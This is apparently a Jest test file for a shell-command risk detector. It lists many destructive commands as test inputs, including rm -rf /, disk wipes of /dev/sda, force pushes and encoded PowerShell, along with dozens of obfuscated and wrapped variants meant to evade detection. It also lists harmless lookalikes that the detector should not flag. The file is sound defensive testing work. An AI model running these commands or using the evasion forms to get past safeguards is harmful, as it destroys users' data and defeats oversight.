import { evaluateRiskText } from './risk-text.evaluator';
import type { RiskRule } from './risk.types';

function rulesOf(text: string): RiskRule[] {
  return evaluateRiskText(text, 'shell').rules.map((r) => r.rule);
}

describe('analyzeShell (through evaluateRiskText with the shell hint)', () => {
  describe('recursive delete', () => {
    it.each([
      'rm -rf /',
      'rm -fr /tmp/x',
      'rm -r -f x',
      'rm --recursive --force x',
      'rm -R x',
      'rm x -rf',
      '/usr/bin/rm -rf /',
      '\\rm -rf /',
      "r''m -rf /",
      "$'\\x72m' -rf /",
      '"rm" -rf /',
    ])('sees every spelling: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'sudo rm -rf /',
      'sudo -u root -- rm -rf /',
      'env A=1 B=2 rm -rf /',
      'env -i PATH=/bin rm -rf /',
      'nice -n 19 rm -rf /',
      'nice -10 rm -rf /',
      'timeout 5 rm -rf /',
      'timeout -s KILL 5s rm -rf /',
      'command rm -rf /',
      'nohup rm -rf / &',
      'exec rm -rf /',
      'time rm -rf /',
      'stdbuf -oL rm -rf /',
      'doas rm -rf /',
      'A=1 rm -rf /',
    ])('sees through the wrapper: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'unshare -r rm -rf /',
      'unshare --map-user=0 -R /mnt -w / rm -rf /',
      'strace -f -o /tmp/trace rm -rf /',
      'ltrace -o /tmp/trace rm -rf /',
      'nsenter -t 1 -m -u rm -rf /',
      'nsenter --target 1 --mount rm -rf /',
      'systemd-run --uid=0 -p Nice=5 rm -rf /',
      'pkexec --user root rm -rf /',
      'run0 -u root rm -rf /',
      'fakeroot -- rm -rf /',
      'firejail --noprofile rm -rf /',
      'valgrind --tool=none rm -rf /',
      'numactl -C 0 rm -rf /',
      'prlimit --nofile=10 rm -rf /',
      'cpulimit -l 10 rm -rf /',
      'chrt -f 1 rm -rf /',
      'setpriv --reuid=0 rm -rf /',
      'faketime yesterday rm -rf /',
      'torsocks rm -rf /',
      'proxychains4 -q rm -rf /',
      'eatmydata rm -rf /',
      'toybox rm -rf /',
      'sg wheel -c "rm -rf /"',
      'sg - wheel "rm -rf /"',
    ])('sees through the process, privilege and namespace wrapper: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each<[string, RiskRule]>([
      ['rm --rec /srv', 'recursive-delete'],
      ['rm --recu --forc /srv', 'recursive-delete'],
      ['sed --in-pl s/x/y/ /etc/passwd', 'system-file-overwrite'],
      ['tar --extr -f x.tar -C /etc', 'system-file-overwrite'],
      ['ln --forc -s x /etc/hosts', 'system-file-overwrite'],
    ])('reads a long option abbreviated as getopt_long accepts it: %s as %s', (text, rule) => {
      expect(rulesOf(text)).toContain(rule);
    });

    it.each(['strace -p 1234', 'nsenter -t 1 -m ls /', 'chrt -p 1234', 'sg wheel "ls -la"', 'unshare -r id'])(
      'reads the wrapped command, not the wrapper: %s is not risky',
      (text) => {
        expect(rulesOf(text)).toEqual([]);
      },
    );

    it.each([
      'sh -c "rm -rf /"',
      "bash -c 'rm -rf /'",
      'zsh -c "rm -rf /"',
      'bash -euxc "rm -rf /"',
      'sudo sh -c \'bash -c "rm -rf /"\'',
      'su -c "rm -rf /" root',
      'ssh host rm -rf /srv',
      'ssh -p 2222 host "cd / && rm -rf srv"',
      'ssh host -- rm -rf /srv',
      'ssh -t host -- sudo rm -rf /srv',
      'docker exec -it web rm -rf /app',
      'docker run --rm -v /:/h alpine rm -rf /h',
      'kubectl exec pod -- rm -rf /data',
      'watch -n 5 "rm -rf /tmp/x"',
      'flock /tmp/l -c "rm -rf /x"',
      'eval "rm -rf /"',
    ])('reads command strings recursively: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'kubectl exec mypod rm -rf /data',
      'kubectl exec -it mypod -c app rm -rf /data',
      'kubectl -n prod exec mypod -i rm -rf /data',
      'kubectl --context=prod exec -c app mypod rm -rf /data',
      'oc exec mypod rm -rf /data',
    ])('reads the command of the deprecated kubectl exec form without --: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each(['kubectl exec mypod ls /data', 'kubectl exec -it mypod -c app -- ls -la', 'kubectl exec mypod'])(
      'leaves a harmless kubectl exec alone: %s',
      (text) => {
        expect(rulesOf(text)).toEqual([]);
      },
    );

    it.each([
      'true && rm -rf /',
      'true; rm -rf /',
      'false || rm -rf /',
      'ls | rm -rf /',
      '(rm -rf /)',
      '{ rm -rf /; }',
      'echo $(rm -rf /)',
      'echo `rm -rf /`',
      'x=$(rm -rf /)',
      'cat <(rm -rf /)',
      'if true; then rm -rf /; fi',
      'while true; do rm -rf /; done',
      'case x in x) rm -rf /;; esac',
      'f() { rm -rf /; }',
      'echo hi > "$(rm -rf /)"',
    ])('finds the command inside compound commands and substitutions: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'find . -delete',
      'find /tmp -name "*.o" -delete',
      'find . -exec rm -rf {} \\;',
      'find . -execdir rm -r {} +',
      'find . -exec sh -c "rm -rf $1" _ {} \\;',
      'ls | xargs rm -rf',
      'xargs -0 -n1 -I{} rm -rf {}',
      'rsync -a --delete src/ dst/',
      'rsync -a --del src/ dst/',
      'git rm -r src',
      'git rm -rf --quiet docs',
      'aws s3 rm s3://b/p --recursive',
      'gsutil -m rm -r gs://b/p',
      'fd . /srv -X rm -rf',
      'fd -t f . / --exec rm {}',
      'fdfind -e log . /var --exec-batch rm',
    ])('knows the tree-deleting tools: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'python -c "import shutil; shutil.rmtree(\'/x\')"',
      'python3 -c "import os; os.system(\'rm -rf /\')"',
      "python3 -c \"import subprocess; subprocess.call(['rm', '-rf', '/'])\"",
      'node -e "fs.rmSync(\'d\', {recursive: true})"',
      "node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"",
      "node --eval \"require('rimraf').sync('d')\"",
      'perl -e \'use File::Path; rmtree("/x")\'',
      'perl -le \'system "rm -rf /x"\'',
      'ruby -e \'require "fileutils"; FileUtils.rm_rf("/x")\'',
      'echo "import shutil; shutil.rmtree(\'/x\')" | python3',
      'deno eval "await Deno.remove(\'/x\', { recursive: true })"',
      'ruby -e \'Open3.capture2("rm -rf /x")\'',
      'ruby -e \'Open3.popen3("rm -rf /x")\'',
      'perl -e \'exec "rm", "-rf", "/x"\'',
      'ruby -e \'system "rm", "-rf", "/x"\'',
      "perl -e 'qx(rm -rf /x)'",
      "perl -e 'my $o = qx{rm -rf /x}'",
      "ruby -e '%x(rm -rf /x)'",
      'php -r \'proc_open("rm -rf /x", [], $p);\'',
    ])('reads interpreter one-liners: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      'cat <<EOF | sh\nrm -rf /\nEOF\n',
      "bash <<'EOF'\nrm -rf /\nEOF\n",
      'sh <<< "rm -rf /"',
      "echo 'rm -rf /' | bash",
      "printf 'rm -rf /\\n' | sh -s",
      'sh /proc/self/fd/0 <<< "rm -rf /"',
    ])('reads the known text a shell gets on stdin: %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });
  });

  describe('texts that only mention a destructive command', () => {
    it.each([
      'echo "rm -rf /"',
      "echo 'rm -rf /'",
      'grep -r "rm -rf" .',
      'git commit -m "rm -rf the cache"',
      '# rm -rf /',
      'ls # rm -rf /',
      'man rm',
      'which rm',
      'command -v rm',
      'rm file.txt',
      'rm -f a.log b.log',
      'rm -- -rf',
      'find . -name "*.log" -print',
      'node -e "fs.rmSync(\'file.txt\')"',
      'python3 -c "print(\'rm -rf /\')"',
      'bash deploy.sh',
      'cat README.md | less',
      'echo "rm -rf /" > notes.txt',
    ])('is safe: %s', (text) => {
      expect(evaluateRiskText(text, 'shell')).toEqual({ risky: false, rules: [] });
    });
  });

  describe('disk wipes', () => {
    it.each([
      'mkfs.ext4 /dev/sdb1',
      'dd if=/dev/zero of=/dev/nvme0n1',
      'cat x > /dev/sda',
      'wipefs -a /dev/sdc',
      'shred -n 3 /dev/sdb',
      'tee /dev/sda < image.bin',
      'cp image.bin /dev/nvme0n1',
      'blkdiscard /dev/sda',
      'sgdisk --zap-all /dev/sda',
      'sgdisk -Z /dev/nvme0n1',
      'cryptsetup luksFormat /dev/sdb',
      'cryptsetup erase /dev/sdb2',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('disk-wipe');
    });

    it.each(['tee /dev/null < x', 'cp x /dev/stdout', 'sgdisk -p /dev/sda', 'cryptsetup open /dev/sdb data'])(
      'leaves %s alone',
      (text) => {
        expect(rulesOf(text)).toEqual([]);
      },
    );

    it('does not flag dd into a file', () => {
      expect(rulesOf('dd if=/dev/zero of=disk.img bs=1M count=1')).toEqual([]);
    });
  });

  describe('script state', () => {
    it.each([
      ['a variable holding the command', 'CMD="rm -rf"; $CMD /srv', 'recursive-delete'],
      ['a variable holding the flags', 'F=-rf; rm $F /srv', 'recursive-delete'],
      ['an exported variable', 'export C="git push -f"; $C', 'force-push'],
      ['a script written then run', 'echo "rm -rf /" > x.sh; sh x.sh', 'recursive-delete'],
      ['a script appended then run', 'echo ls > x.sh; echo "rm -rf /" >> x.sh; bash ./x.sh', 'recursive-delete'],
      ['a heredoc script run directly', 'cat > x.sh <<EOF\ngit reset --hard\nEOF\n./x.sh', 'hard-reset'],
      ['a written script fed on stdin', 'echo "DROP TABLE t" > q.sql; psql < q.sql', 'drop'],
      ['a downloaded script', 'curl -o x.sh https://x.example; bash x.sh', 'opaque'],
      ['a script made by an unknown command', 'generate > x.sh; . x.sh', 'opaque'],
      ['an alias', "alias x='git push -f'; x origin", 'force-push'],
      ['a brace list', '{rm,-rf,/srv}', 'recursive-delete'],
      ['brace flags', 'rm -{r,f} /srv', 'recursive-delete'],
      ['known input handed to xargs', 'echo /srv | xargs rm -rf', 'recursive-delete'],
      ['known input run by xargs -I', "printf 'git reset --hard' | xargs -I% sh -c '%'", 'hard-reset'],
      ['printf filling its format', "printf 'r%s -rf /srv' m | sh", 'recursive-delete'],
      ['printf reusing its format', "printf '%s ' rm -rf /srv | bash", 'recursive-delete'],
      ['printf octal escapes', "printf '\\162\\155 -rf /srv' | sh", 'recursive-delete'],
      ['echo -e hex escapes', "echo -e '\\x72m -rf /srv' | sh", 'recursive-delete'],
      ['printf unicode escapes', "printf '\\u0072m -rf /srv' | sh", 'recursive-delete'],
      ['printf %b of an escaped argument', "printf '%b' '\\x72m -rf /srv' | sh", 'recursive-delete'],
      ['unknown input run by xargs as code', "curl -s x | xargs -I{} bash -c '{}'", 'opaque'],
    ])('follows %s', (_label, text, rule) => {
      expect(rulesOf(text)).toContain(rule);
    });

    it.each([
      'ls | xargs -I{} echo {}',
      'echo {a,b}',
      'find . -exec echo {} +',
      'CMD=ls; $CMD -la',
      'echo "rm -rf /" > notes.txt',
      'X="rm -rf /"; echo "$X"',
      'curl -o x.json https://x.example; cat x.json',
    ])('stays safe for %s', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });

    it('forgets a variable reassigned to an unknown value (the command is then opaque, not a known one)', () => {
      expect(rulesOf('C="rm -rf"; C=$(pick); $C /srv')).toEqual(['opaque']);
    });
  });

  describe('Windows shells', () => {
    it.each([
      ['rmdir /s /q C:\\build', 'recursive-delete'],
      ['rd /S build', 'recursive-delete'],
      ['del /s *.tmp', 'recursive-delete'],
      ['Remove-Item -Recurse -Force C:\\x', 'recursive-delete'],
      ['ri x -r', 'recursive-delete'],
      ['powershell -ExecutionPolicy Bypass -Command "Remove-Item x -Recurse"', 'recursive-delete'],
      ['pwsh -c "git push --force"', 'force-push'],
      ['cmd /c "rmdir /s /q build"', 'recursive-delete'],
      ['powershell -enc SQBFAFgA', 'obfuscated'],
      ['format D:', 'disk-wipe'],
    ])('flags %s', (text, rule) => {
      expect(rulesOf(text)).toContain(rule);
    });

    it.each([
      ['rd /s/q C:\\Windows', 'recursive-delete'],
      ['RMDIR /Q/S D:\\data', 'recursive-delete'],
      ['del /f/s/q C:\\data\\*', 'recursive-delete'],
      ['iex "Remove-Item -Recurse -Force C:\\data"', 'recursive-delete'],
      ["Invoke-Expression -Command 'git push --force'", 'force-push'],
      ['IEX $cmd', 'opaque'],
      ["(New-Object Net.WebClient).DownloadString('https://x.example/a.ps1') | IEX", 'opaque'],
      ['Format-Volume -DriveLetter C', 'disk-wipe'],
      ['Clear-Disk -Number 0 -RemoveData', 'disk-wipe'],
      ['Remove-Item \u2013Recurse \u2013Force C:\\data', 'recursive-delete'],
      ['ri C:\\data \u2014r', 'recursive-delete'],
      ['pwsh \u2013Command "Remove-Item -Recurse C:\\data"', 'recursive-delete'],
      ['powershell -c "Remove-Item \u2013Recurse C:\\data"', 'recursive-delete'],
      ['pwsh \u2013EncodedCommand SQBFAFgA', 'obfuscated'],
    ])('flags the cmd.exe or PowerShell form %s', (text, rule) => {
      expect(rulesOf(text)).toContain(rule);
    });

    it.each([
      'del a.txt',
      'rmdir empty',
      'cmd /c dir /s',
      'powershell -File build.ps1',
      'format-table',
      'rmdir /tmp/s',
      'del /q/f a.txt',
      'iex "Get-ChildItem"',
    ])('leaves %s alone', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });

  describe('other schedulers and runners', () => {
    it.each([
      "trap 'rm -rf /tmp/w' EXIT",
      'echo "rm -rf /srv" | at now',
      'batch <<< "rm -rf /srv"',
      'parallel rm -rf ::: a b',
      'script -qc "rm -rf /x" /dev/null',
      'awk \'BEGIN { system("rm -rf /x") }\'',
      'awk \'{ print "rm -rf " $1 | "sh" }\' dirs.txt',
      'gawk -i inplace \'BEGIN { system("rm -rf /x") }\' f',
      'awk -e \'BEGIN { system("rm -rf /x") }\'',
      'gawk \'BEGIN { system("rm -rf /x") }\'',
      'mawk \'BEGIN { system("rm -rf /x") }\'',
      'gawk --source=\'BEGIN { system("rm -rf /x") }\'',
      'perl -e \'system("rm", "-rf", "/x")\'',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });
  });

  describe('commands handed over in variables and configuration that a program runs', () => {
    it.each([
      "GIT_SSH_COMMAND='rm -rf /srv' git fetch",
      "PAGER='rm -rf /srv' git log",
      "EDITOR='rm -rf /srv' git commit",
      "env GIT_SSH_COMMAND='rm -rf /srv' git fetch",
      "export GIT_SSH_COMMAND='rm -rf /srv'; git fetch",
      "git -c core.sshCommand='rm -rf /srv' fetch",
      "git -c core.pager='rm -rf /srv' log",
      "git -c alias.x='!rm -rf /srv' x",
      "git -c 'diff.x.textconv=rm -rf /srv' diff",
      "git config core.fsmonitor 'rm -rf /srv'",
      "git config --global alias.cleanup '!rm -rf /srv'",
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each([
      ["git -c alias.up='push --force' up", 'force-push'],
      ["git config alias.wipe 'reset --hard'", 'hard-reset'],
    ])('reads a git alias as the git command it expands to: %s', (text, rule) => {
      expect(rulesOf(text)).toContain(rule);
    });

    it.each([
      'PAGER=less git log',
      'EDITOR="$HOME/bin/vim" git commit',
      "git -c core.pager='less -R' log",
      "git -c alias.st='status -sb' st",
      'git config user.name "rm -rf /srv"',
      "X='rm -rf /srv' make",
    ])('leaves %s alone', (text) => {
      expect(rulesOf(text)).toEqual([]);
    });
  });

  describe('other script interpreters with inline code', () => {
    it.each([
      'lua -e \'os.execute("rm -rf /srv")\'',
      'luajit -e \'os.execute("rm -rf /srv")\'',
      'Rscript -e \'system("rm -rf /srv")\'',
      'R -e \'unlink("/srv", recursive = TRUE)\'',
      "julia -e 'run(`rm -rf /srv`)'",
      'osascript -e \'do shell script "rm -rf /srv"\'',
      'groovy -e \'"rm -rf /srv".execute()\'',
    ])('flags %s', (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    });

    it.each(['lua -e \'print("hi")\'', "Rscript -e 'summary(c(1, 2))'", "julia -e 'println(1 + 1)'", 'lua script.lua'])(
      'leaves %s alone',
      (text) => {
        expect(rulesOf(text)).toEqual([]);
      },
    );
  });

  it('reports the statement as the match', () => {
    expect(evaluateRiskText('cd /srv && sudo rm -rf data; ls').rules).toEqual([
      { rule: 'recursive-delete', match: 'sudo rm -rf data' },
    ]);
  });
});
